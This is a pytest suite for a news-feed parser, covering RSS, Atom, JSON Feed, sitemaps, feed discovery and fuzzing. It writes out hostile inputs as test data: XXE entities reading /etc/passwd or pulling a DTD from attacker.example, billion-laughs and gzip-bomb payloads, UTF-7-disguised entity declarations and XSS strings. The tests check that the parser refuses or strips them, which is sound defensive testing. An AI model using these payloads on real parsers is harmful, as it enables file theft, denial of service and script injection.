"""Unit tests for ingest.feeds: one small inline document per format and per failure mode."""

from __future__ import annotations

import builtins
import codecs
import gzip
import socket
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingest.feeds import (
    COMMON_FEED_PATHS,
    MAX_SUMMARY_CHARS,
    FeedEntry,
    ParsedFeed,
    discover_feed_links,
    parse_feed,
    sitemaps_from_robots,
)
from schemas.errors import (
    ContentTooLarge,
    FeedError,
    HostileFeed,
    MalformedFeed,
)

DANGEROUS = ("<script", "javascript:", "onerror", "onload", "<iframe", "<style", "<img")


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Record (and refuse) any attempt to open a connection or resolve a name."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network access in a unit test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def only(feed: ParsedFeed) -> FeedEntry:
    assert len(feed.entries) == 1, feed.entries
    return feed.entries[0]


# --------------------------------------------------------------------------------------------
# RSS / RDF / Atom
# --------------------------------------------------------------------------------------------

RSS20 = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>Example &amp; Co News</title>
  <link>https://news.example.com/</link>
  <language>en-gb</language>
  <item>
    <title>Storm   hits
      the coast</title>
    <link>https://news.example.com/2024/storm</link>
    <description>&lt;p&gt;Winds of &lt;b&gt;120 km/h&lt;/b&gt;&lt;/p&gt;
      &lt;p&gt;Schools closed.&lt;/p&gt;</description>
    <pubDate>Tue, 02 Jan 2024 10:30:00 +0100</pubDate>
    <dc:creator>Jane Reporter</dc:creator>
    <guid isPermaLink="false">storm-2024-01-02</guid>
  </item>
  <item>
    <title>Second story</title>
    <link>/2024/second</link>
    <author>desk@example.com (News Desk)</author>
  </item>
</channel>
</rss>"""


def test_rss20_entries_are_plain_text_with_utc_dates() -> None:
    feed = parse_feed(RSS20, url="https://news.example.com/rss.xml")
    assert feed.kind == "rss"
    assert feed.title == "Example & Co News"
    assert feed.warning is None
    assert feed.sitemaps == ()
    assert feed.ttl_seconds is None
    first, second = feed.entries
    assert first.url == "https://news.example.com/2024/storm"
    assert first.title == "Storm hits the coast"
    assert first.summary == "Winds of 120 km/h Schools closed."
    assert first.published_at == datetime(2024, 1, 2, 9, 30, tzinfo=UTC)
    assert first.published_at is not None
    assert first.published_at.utcoffset() is not None
    assert first.authors == ("Jane Reporter",)
    assert first.guid == "storm-2024-01-02"
    assert first.language == "en-gb"
    # Relative link resolved against the feed URL; "email (Name)" reduced to the name.
    assert second.url == "https://news.example.com/2024/second"
    assert second.authors == ("News Desk",)
    assert second.published_at is None


def test_rss091_with_netscape_doctype_parses_and_fetches_nothing(
    no_network: list[object],
) -> None:
    body = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
 "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91">
<channel>
<title>Caf\xe9 news</title>
<link>http://www.example.com/</link>
<item><title>Item one</title><link>http://www.example.com/one</link>
<description>First</description></item>
</channel>
</rss>"""
    feed = parse_feed(body)
    assert feed.kind == "rss"
    assert feed.title == "Café news"
    assert only(feed).url == "http://www.example.com/one"
    assert feed.warning is None
    assert no_network == []


def test_rdf_rss10() -> None:
    body = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="http://example.org/"><title>RDF site</title></channel>
  <item rdf:about="http://example.org/a">
    <title>An RDF item</title><link>http://example.org/a</link>
    <dc:date>2023-05-06T07:08:09Z</dc:date><dc:language>de</dc:language>
  </item>
</rdf:RDF>"""
    feed = parse_feed(body)
    assert feed.kind == "rdf"
    assert feed.title == "RDF site"
    entry = only(feed)
    assert entry.url == "http://example.org/a"
    assert entry.published_at == datetime(2023, 5, 6, 7, 8, 9, tzinfo=UTC)


def test_atom_relative_links_and_xml_base() -> None:
    body = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example.net/posts/">
  <title type="html">My &lt;em&gt;blog&lt;/em&gt;</title>
  <entry>
    <title>Based</title>
    <link rel="alternate" href="2024/based.html"/>
    <id>tag:blog.example.net,2024:1</id>
    <updated>2024-03-04T05:06:07+02:00</updated>
    <author><name>Ann Author</name></author>
    <author><name>Bob Writer</name></author>
    <content type="html">&lt;p&gt;Full &lt;i&gt;content&lt;/i&gt;&lt;/p&gt;</content>
  </entry>
  <entry xml:base="/other/">
    <title>Rebased</title>
    <link href="piece"/>
    <published>2024-03-01T00:00:00Z</published>
    <updated>2024-03-05T00:00:00Z</updated>
  </entry>
</feed>"""
    feed = parse_feed(body, url="https://elsewhere.example.org/feed.atom")
    assert feed.kind == "atom"
    assert feed.title == "My blog"
    first, second = feed.entries
    assert first.url == "https://blog.example.net/posts/2024/based.html"
    assert first.published_at == datetime(2024, 3, 4, 3, 6, 7, tzinfo=UTC)  # updated only
    assert first.authors == ("Ann Author", "Bob Writer")
    assert first.summary == "Full content"
    assert first.guid == "tag:blog.example.net,2024:1"
    assert second.url == "https://blog.example.net/other/piece"
    assert second.published_at == datetime(2024, 3, 1, tzinfo=UTC)  # published wins


def test_atom_relative_link_without_any_base_is_dropped() -> None:
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
<entry><title>relative</title><link href="/a"/></entry>
<entry><title>absolute</title><link href="https://example.com/b"/></entry></feed>"""
    feed = parse_feed(body)
    assert [e.url for e in feed.entries] == ["https://example.com/b"]


# --------------------------------------------------------------------------------------------
# JSON Feed
# --------------------------------------------------------------------------------------------


def test_json_feed_11() -> None:
    body = b"""{
  "version": "https://jsonfeed.org/version/1.1",
  "title": "JSON news",
  "language": "fr",
  "authors": [{"name": "Feed Author"}],
  "items": [
    {"id": "1", "url": "/articles/1", "title": "Un <b>titre</b>",
     "content_html": "<p>Bonjour <script>steal()</script>le monde</p>",
     "date_published": "2024-06-01T12:00:00+02:00"},
    {"id": "2", "external_url": "https://other.example.org/x", "title": "Linked",
     "summary": "Short", "date_modified": "2024-06-02T00:00:00Z",
     "authors": [{"name": "Item Author"}], "language": "en"},
    {"id": "3", "title": "No link at all"},
    "not an object"
  ]
}"""
    feed = parse_feed(body, url="https://json.example.com/feed.json")
    assert feed.kind == "json"
    assert feed.title == "JSON news"
    assert feed.warning is None
    first, second = feed.entries
    assert first.url == "https://json.example.com/articles/1"
    assert first.title == "Un titre"
    assert first.summary == "Bonjour le monde"
    assert first.published_at == datetime(2024, 6, 1, 10, 0, tzinfo=UTC)
    assert first.authors == ("Feed Author",)
    assert first.language == "fr"
    assert first.guid == "1"
    assert second.url == "https://other.example.org/x"
    assert second.published_at == datetime(2024, 6, 2, tzinfo=UTC)
    assert second.authors == ("Item Author",)
    assert second.language == "en"


def test_json_feed_10_author_object() -> None:
    body = (
        b'{"version": "https://jsonfeed.org/version/1", "title": "t", "items": '
        b'[{"id": 7, "url": "https://e.com/7", "author": {"name": "Old Style"}}]}'
    )
    entry = only(parse_feed(body))
    assert entry.authors == ("Old Style",)
    assert entry.guid == "7"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": [', "invalid_json"),
        (b"{" + b'"a":{' * 50_000, "invalid_json"),  # too deep for the json module
        (b'{"hello": "world"}', "not_a_feed"),
    ],
)
def test_bad_json(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedFeed) as info:
        parse_feed(body)
    assert info.value.reason == reason


# --------------------------------------------------------------------------------------------
# Sitemaps
# --------------------------------------------------------------------------------------------

NEWS_SITEMAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
  <url>
    <loc>https://paper.example.com/world/1</loc>
    <image:image><image:loc>https://cdn.example.com/1.jpg</image:loc></image:image>
    <news:news>
      <news:publication><news:name>The Paper</news:name><news:language>nl</news:language>
      </news:publication>
      <news:publication_date>2024-02-03T04:05:06+01:00</news:publication_date>
      <news:title>Verkiezingen &amp; uitslagen</news:title>
    </news:news>
  </url>
  <url>
    <loc> /world/2 </loc>
    <lastmod>2024-02-01</lastmod>
  </url>
  <url><loc>javascript:alert(1)</loc></url>
</urlset>"""


def test_news_sitemap_fields() -> None:
    feed = parse_feed(NEWS_SITEMAP, url="https://paper.example.com/news-sitemap.xml")
    assert feed.kind == "sitemap"
    assert feed.warning is None
    first, second = feed.entries
    assert first.url == "https://paper.example.com/world/1"  # not the image:loc
    assert first.title == "Verkiezingen & uitslagen"
    assert first.language == "nl"
    assert first.published_at == datetime(2024, 2, 3, 3, 5, 6, tzinfo=UTC)
    assert second.url == "https://paper.example.com/world/2"
    assert second.title is None
    assert second.published_at == datetime(2024, 2, 1, tzinfo=UTC)  # date only -> UTC midnight


def test_sitemap_with_wrong_or_missing_namespace() -> None:
    wrong_ns = NEWS_SITEMAP.replace(
        b"http://www.sitemaps.org/schemas/sitemap/0.9", b"http://www.google.com/schemas/0.84"
    ).replace(b"http://www.google.com/schemas/sitemap-news/0.9", b"urn:whatever")
    feed = parse_feed(wrong_ns)
    assert [e.title for e in feed.entries] == ["Verkiezingen & uitslagen"]
    # news: prefix never declared at all: recovered, with a warning.
    undeclared = b"""<urlset><url><loc>https://e.com/a</loc><news:news>
<news:title>Undeclared</news:title><news:publication_date>2024-01-01T00:00:00Z
</news:publication_date></news:news></url></urlset>"""
    feed = parse_feed(undeclared)
    entry = only(feed)
    assert entry.title == "Undeclared"
    assert entry.published_at == datetime(2024, 1, 1, tzinfo=UTC)


def test_sitemap_index() -> None:
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
  <sitemap><loc>https://e.com/sitemap-1.xml.gz</loc><lastmod>2024-01-01</lastmod></sitemap>
  <sitemap><loc><![CDATA[/sitemap-2.xml]]></loc></sitemap>
  <sitemap><loc>https://e.com/sitemap-1.xml.gz</loc></sitemap>
  <sitemap><loc>ftp://e.com/nope.xml</loc></sitemap>
</sitemapindex>"""
    feed = parse_feed(body, url="https://e.com/sitemap.xml")
    assert feed.kind == "sitemapindex"
    assert feed.entries == ()
    assert feed.sitemaps == ("https://e.com/sitemap-1.xml.gz", "https://e.com/sitemap-2.xml")


def test_text_sitemap_with_bom() -> None:
    body = codecs.BOM_UTF8 + b"https://e.com/a\r\n\r\nhttps://e.com/b\nnot a url\n"
    feed = parse_feed(body)
    assert feed.kind == "text-sitemap"
    assert [e.url for e in feed.entries] == ["https://e.com/a", "https://e.com/b"]
    assert feed.warning is not None
    assert feed.warning.startswith("ignored_lines")


def test_gzip_sitemap_is_decompressed() -> None:
    feed = parse_feed(gzip.compress(NEWS_SITEMAP), url="https://paper.example.com/s.xml.gz")
    assert feed.kind == "sitemap"
    assert len(feed.entries) == 2


def test_gzip_bomb_is_refused_by_decompressed_size() -> None:
    bomb = gzip.compress(b"<urlset>" + b" " * 50_000_000 + b"</urlset>", compresslevel=9)
    assert len(bomb) < 100_000
    with pytest.raises(ContentTooLarge) as info:
        parse_feed(bomb, max_bytes=5_000_000)
    assert info.value.reason == "decompressed_too_large"


def test_body_over_cap_is_refused() -> None:
    with pytest.raises(ContentTooLarge) as info:
        parse_feed(RSS20, max_bytes=100)
    assert info.value.reason == "feed_too_large"


def test_corrupt_gzip() -> None:
    with pytest.raises(MalformedFeed) as info:
        parse_feed(b"\x1f\x8b\x08\x00garbage")
    assert info.value.reason == "bad_gzip"


def test_max_entries_caps_entries_and_sitemaps() -> None:
    urls = "".join(f"<url><loc>https://e.com/{i}</loc></url>" for i in range(50))
    feed = parse_feed(f"<urlset>{urls}</urlset>".encode(), max_entries=10)
    assert len(feed.entries) == 10
    items = "".join(f"<item><link>https://e.com/{i}</link></item>" for i in range(50))
    feed = parse_feed(
        f'<rss version="2.0"><channel>{items}</channel></rss>'.encode(), max_entries=3
    )
    assert [e.url for e in feed.entries] == [f"https://e.com/{i}" for i in range(3)]


# --------------------------------------------------------------------------------------------
# Hostile XML
# --------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://e.com/a</link></item></channel></rss>"""


def _quadratic(encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>\n'
        f'<!DOCTYPE rss [<!ENTITY a "{"B" * 50_000}">]>\n'
        f'<rss version="2.0"><channel><item><title>{"&a;" * 5_000}</title>'
        "<link>https://e.com/q</link></item></channel></rss>"
    )
    return text.encode(encoding)


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(HostileFeed) as info:
        parse_feed(BILLION_LAUGHS)
    assert info.value.reason == "entity_expansion"


def test_quadratic_blowup_is_refused() -> None:
    with pytest.raises(HostileFeed) as info:
        parse_feed(_quadratic())
    assert info.value.reason == "entity_declaration"


@pytest.mark.parametrize(
    "decl",
    [
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        b'<!ENTITY xxe PUBLIC "-//X//Y" "http://attacker.example/x.dtd">',
        b'<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;',
    ],
)
def test_external_entities_are_refused(decl: bytes, no_network: list[object]) -> None:
    body = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss [' + decl + b"]>\n"
        b'<rss version="2.0"><channel><item><title>&xxe;</title>'
        b"<link>https://e.com/x</link></item></channel></rss>"
    )
    with pytest.raises(HostileFeed) as info:
        parse_feed(body)
    assert info.value.reason == "external_entity"
    assert no_network == []


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(_quadratic("utf-16"), id="utf-16"),
        pytest.param(codecs.BOM_UTF32_LE + _quadratic("utf-32-le"), id="utf-32-bom"),
        # feedparser honours encoding="utf-7": "+ADw-" decodes to "<", so "<!ENTITY" never
        # appears in the raw bytes.
        pytest.param(
            b'<?xml version="1.0" encoding="utf-7"?>\n'
            b"+ADw-!DOCTYPE rss +AFs-+ADw-!ENTITY a +ACI-" + b"B" * 1000 + b"+ACI-+AD4-+AF0-+AD4-\n"
            b'<rss version="2.0"><channel><item><title>' + b"&a;" * 1000 + b"</title>"
            b"<link>https://e.com/q</link></item></channel></rss>",
            id="utf-7",
        ),
        # feedparser takes entity declarations from everything before the first "<name",
        # comments included, and re-inserts them in a DOCTYPE of its own.
        pytest.param(
            b'<!DOCTYPE rss>\n<!--\n<!ENTITY a "BBBB">\n-->\n<rss version="2.0"><channel>'
            b"<item><title>&a;</title><link>https://e.com/q</link></item></channel></rss>",
            id="entity-in-prolog-comment",
        ),
        pytest.param(gzip.compress(BILLION_LAUGHS), id="gzip"),
        pytest.param(
            b'<!DOCTYPE urlset [<!ENTITY a "x">]><urlset><url><loc>https://e.com/&a;</loc>'
            b"</url></urlset>",
            id="sitemap",
        ),
    ],
)
def test_disguised_entity_declarations_are_refused(body: bytes) -> None:
    with pytest.raises(HostileFeed):
        parse_feed(body)


def test_entity_text_inside_cdata_is_not_a_declaration() -> None:
    body = b"""<rss version="2.0"><channel><item><title>About XXE</title>
<link>https://e.com/xxe</link>
<description><![CDATA[Never parse <!ENTITY xxe SYSTEM "file:///etc/passwd"> blindly]]>
</description></item></channel></rss>"""
    entry = only(parse_feed(body))  # body text, not the prolog: not refused
    assert entry.summary == "Never parse blindly"


def test_parsing_opens_no_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # feedparser.parse(bytes) tries open(bytes) before parsing: a body naming a local feed
    # file would be replaced by that file's content.
    secret = tmp_path / "<rss>.xml"
    secret.write_bytes(RSS20)
    opened: list[object] = []
    real_open = builtins.open

    def spy(file: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(file)
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", spy)
    assert parse_feed(RSS20, url="https://news.example.com/").entries
    with pytest.raises(MalformedFeed):
        parse_feed(str(secret).encode())
    assert opened == []


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"<!DOCTYPE x [" + b"<!--" * 250_000, id="unterminated-comments"),
        pytest.param(b"<!DOCTYPE x [" + b"<?" * 500_000, id="unterminated-pis"),
        pytest.param(b"<!DOCTYPE x [" + b'<!ENTITY a "' * 80_000, id="unterminated-literals"),
        pytest.param(b"<" * 1_000_000, id="stray-lt"),
        pytest.param(b"<!" * 500_000, id="stray-declarations"),
    ],
)
def test_prolog_scan_stays_linear(body: bytes) -> None:
    # A backtracking scan would take minutes here; a linear one takes well under a second.
    started = time.perf_counter()
    with pytest.raises(FeedError):
        parse_feed(body)
    assert time.perf_counter() - started < 5.0  # hang guard, not a benchmark


# --------------------------------------------------------------------------------------------
# Not feeds, ill-formed feeds
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty_document"),
        (b" \r\n\t ", "empty_document"),
        (b'<?xml version="1.0"?>\n<!-- nothing here -->\n', "empty_document"),
        (
            b"<!DOCTYPE html><html><head><title>Home</title>"
            b'<link rel="alternate" type="application/rss+xml" href="/feed"></head>'
            b"<body><p>Welcome</p></body></html>",
            "not_a_feed",
        ),
        (b'<?xml version="1.0"?><config><item>1</item></config>', "not_a_feed"),
        (b"Hello, this is plain prose.\nNothing to see.", "not_a_feed"),
        (b'<?xml version="1.0" encoding="punycode"?><rss/>', "bad_encoding"),
    ],
)
def test_not_a_feed(body: bytes, reason: str) -> None:
    with pytest.raises(MalformedFeed) as info:
        parse_feed(body)
    assert info.value.reason == reason


def test_ill_formed_feed_with_recovered_entries_has_warning() -> None:
    body = b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>Broken &nbsp; feed</title>
<item><title>Still here</title><link>https://e.com/still</link></item>
<item><title>Unclosed <link>https://e.com/second</link></item>
</channel>"""
    feed = parse_feed(body)
    assert feed.warning is not None
    assert feed.warning.startswith("ill_formed_xml")
    assert "https://e.com/still" in [e.url for e in feed.entries]


def test_ill_formed_feed_without_entries_is_malformed() -> None:
    truncated = RSS20[: RSS20.index(b"<item>")] + b"<item><title>cut off mid"
    with pytest.raises(MalformedFeed) as info:
        parse_feed(truncated)
    assert info.value.reason == "ill_formed_xml"


def test_leading_whitespace_before_xml_declaration_is_tolerated() -> None:
    feed = parse_feed(b"\n\n   " + RSS20, url="https://news.example.com/rss.xml")
    assert feed.warning is None
    assert len(feed.entries) == 2


def test_content_type_charset_used_only_without_declared_encoding() -> None:
    body = b'<rss version="2.0"><channel><title>K\xf6ln</title></channel></rss>'
    assert parse_feed(body, content_type="text/xml; charset=ISO-8859-1").title == "Köln"
    declared = b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
    declared += "<title>Köln</title></channel></rss>".encode()
    assert parse_feed(declared, content_type="text/xml; charset=ISO-8859-1").title == "Köln"


# --------------------------------------------------------------------------------------------
# Sanitising
# --------------------------------------------------------------------------------------------


def test_script_in_titles_and_summaries_is_removed() -> None:
    body = b"""<?xml version="1.0"?>
<rss version="2.0"><channel>
<title>Feed&lt;script&gt;alert(1)&lt;/script&gt;</title>
<item>
  <title>Hello &lt;script&gt;alert('x')&lt;/script&gt;world</title>
  <link>https://e.com/1</link>
  <description>&lt;img src=x onerror="alert(1)"&gt;&lt;style&gt;p{}&lt;/style&gt;Text
  &lt;a href="javascript:alert(1)"&gt;link&lt;/a&gt; &lt;iframe src="https://evil"&gt;&lt;/iframe&gt;
  &amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt; end</description>
</item>
</channel></rss>"""
    feed = parse_feed(body)
    entry = only(feed)
    assert entry.title == "Hello world"
    # Double-escaped markup is text about a tag: the tag-like part goes, the words stay.
    assert entry.summary == "Text link alert(2) end"
    assert feed.title == "Feed"
    for text in (entry.title, entry.summary, feed.title):
        assert not any(bad in text.lower() for bad in DANGEROUS)


def test_summary_is_capped_and_control_characters_removed() -> None:
    long = "word " * 5_000
    body = (
        '<rss version="2.0"><channel><item><link>https://e.com/1</link>'
        f"<title>nul&#x1;x</title><description>{long}</description></item></channel></rss>"
    ).encode()
    entry = only(parse_feed(body))
    assert entry.summary is not None
    assert len(entry.summary) <= MAX_SUMMARY_CHARS
    assert entry.summary.endswith("…")
    assert entry.title is not None
    assert "\x01" not in entry.title


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
        "mailto:someone@example.com",
        "ftp://e.com/file",
        "http://",
    ],
)
def test_non_http_links_are_dropped(link: str) -> None:
    body = (
        '<rss version="2.0"><channel>'
        f"<item><title>bad</title><link>{link}</link></item>"
        "<item><title>good</title><link>https://e.com/good</link></item>"
        "</channel></rss>"
    ).encode()
    feed = parse_feed(body, url="https://e.com/feed")
    assert [e.url for e in feed.entries] == ["https://e.com/good"]


# --------------------------------------------------------------------------------------------
# Polling hints
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("channel_extra", "expected"),
    [
        ("<ttl>30</ttl>", 1800),
        ("<ttl>30</ttl><sy:updatePeriod>daily</sy:updatePeriod>", 1800),
        (
            "<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency>",
            1800,
        ),
        ("<sy:updatePeriod>daily</sy:updatePeriod>", 86_400),
        ("<ttl>0</ttl>", None),
        ("<ttl>soon</ttl>", None),
        ("", None),
    ],
)
def test_ttl_hints(channel_extra: str, expected: int | None) -> None:
    body = (
        '<rss version="2.0" xmlns:sy="http://purl.org/rss/1.0/modules/syndication/">'
        f"<channel><title>t</title>{channel_extra}"
        "<item><link>https://e.com/1</link></item></channel></rss>"
    ).encode()
    assert parse_feed(body).ttl_seconds == expected


# --------------------------------------------------------------------------------------------
# Discovery helpers
# --------------------------------------------------------------------------------------------


def test_discover_feed_links() -> None:
    page = b"""<!DOCTYPE html><html><head>
<link rel="stylesheet" href="/style.css">
<link rel="alternate" type="application/rss+xml" title="RSS" href="/feed.xml">
<link rel="alternate" type="text/html" hreflang="de" href="/de/">
<link rel="ALTERNATE home" type="application/atom+xml; charset=utf-8" href="atom.xml">
<link rel="alternate" type="application/feed+json" href="https://cdn.example.net/feed.json">
<link rel="alternate" type="application/rdf+xml" href="javascript:alert(1)">
<link rel="alternate" type="application/rss+xml" href="/feed.xml">
<link rel="alternate" type="application/json" href="/wp-json/wp/v2/posts/1">
</head><body><a rel="alternate" type="application/rss+xml" href="/not-a-link-tag">x</a>
</body></html>"""
    assert discover_feed_links(page, "https://site.example.com/news/page.html") == [
        "https://site.example.com/feed.xml",
        "https://site.example.com/news/atom.xml",
        "https://cdn.example.net/feed.json",
    ]


def test_discover_feed_links_honours_base_and_str_input() -> None:
    page = (
        '<?xml version="1.0" encoding="utf-8"?><html><head><base href="https://base.example.org/x/">'
        '<link rel="alternate" type="application/rdf+xml" href="rdf"></head></html>'
    )
    assert discover_feed_links(page, "https://site.example.com/") == [
        "https://base.example.org/x/rdf"
    ]
    assert discover_feed_links(b"", "https://site.example.com/") == []
    assert discover_feed_links("no html at all", "https://site.example.com/") == []


def test_common_feed_paths() -> None:
    assert all(path.startswith("/") for path in COMMON_FEED_PATHS)
    assert {"/feed", "/rss.xml", "/atom.xml", "/news-sitemap.xml"} <= set(COMMON_FEED_PATHS)
    assert len(set(COMMON_FEED_PATHS)) == len(COMMON_FEED_PATHS)


def test_sitemaps_from_robots() -> None:
    robots = (
        "\ufeffUser-agent: *\n"
        "Disallow: /private\n"
        "Sitemap: https://e.com/sitemap.xml\n"
        "sitemap:/news-sitemap.xml # relative, lower case\n"
        "SITEMAP :  https://e.com/sitemap.xml\n"
        "# Sitemap: https://e.com/commented.xml\n"
        "Sitemap: ftp://e.com/nope.xml\n"
        "Sitemap:\n"
    )
    assert sitemaps_from_robots(robots, "https://e.com/robots.txt") == [
        "https://e.com/sitemap.xml",
        "https://e.com/news-sitemap.xml",
    ]


# --------------------------------------------------------------------------------------------
# Any bytes in: a ParsedFeed or one of our errors out
# --------------------------------------------------------------------------------------------

SEEDS = [
    RSS20,
    NEWS_SITEMAP,
    BILLION_LAUGHS,
    b'{"version": "https://jsonfeed.org/version/1.1", "items": [{"url": "https://e.com/"}]}',
    b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="https://e.com/"/></entry></feed>',
    b"https://e.com/a\nhttps://e.com/b\n",
]
TOKENS = [
    b"<",
    b">",
    b"&",
    b"&#0;",
    b"&#xD800;",
    b"]]>",
    b"<![CDATA[",
    b"<!--",
    b"<!DOCTYPE x [",
    b'<!ENTITY a "b">',
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b"\x1f\x8b",
    b'<?xml version="1.0" encoding="utf-16"?>',
    b'<?xml version="1.0" encoding="idna"?>',
    b"javascript:",
    b"{",
    b'"',
]


def assert_contract(body: bytes) -> None:
    try:
        feed = parse_feed(body, url="https://e.com/feed", max_bytes=1_000_000)
    except (ContentTooLarge, FeedError):  # anything else, NewsIngestError or not, fails
        return
    assert feed.kind in {"rss", "atom", "rdf", "json", "sitemap", "sitemapindex", "text-sitemap"}
    for entry in feed.entries:
        assert entry.url.startswith(("http://", "https://"))
        assert entry.published_at is None or entry.published_at.tzinfo is UTC
        for text in (entry.title, entry.summary):
            assert text is None or "\x00" not in text


@st.composite
def mutated_feeds(draw: st.DrawFn) -> bytes:
    body = bytearray(draw(st.sampled_from(SEEDS)))
    for _ in range(draw(st.integers(1, 6))):
        pos = draw(st.integers(0, len(body)))
        action = draw(st.sampled_from(["insert", "delete", "flip", "truncate"]))
        if action == "insert":
            body[pos:pos] = draw(st.sampled_from(TOKENS) | st.binary(max_size=8))
        elif action == "delete":
            del body[pos : pos + draw(st.integers(1, 40))]
        elif action == "flip" and pos < len(body):
            body[pos] = draw(st.integers(0, 255))
        else:
            del body[pos:]
    return bytes(body)


FUZZ = settings(
    max_examples=200,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)


@FUZZ
@given(st.binary(max_size=2_000))
def test_random_bytes_never_crash(body: bytes) -> None:
    assert_contract(body)


@FUZZ
@given(st.text(max_size=1_000), st.sampled_from(["utf-8", "utf-16", "latin-1"]))
def test_random_text_never_crashes(text: str, encoding: str) -> None:
    assert_contract(text.encode(encoding, "replace"))
    assert_contract(("<rss><channel><item><title>" + text).encode("utf-8", "replace"))


@FUZZ
@given(mutated_feeds(), st.booleans())
def test_mutated_feeds_never_crash(body: bytes, compress: bool) -> None:
    assert_contract(gzip.compress(body) if compress else body)
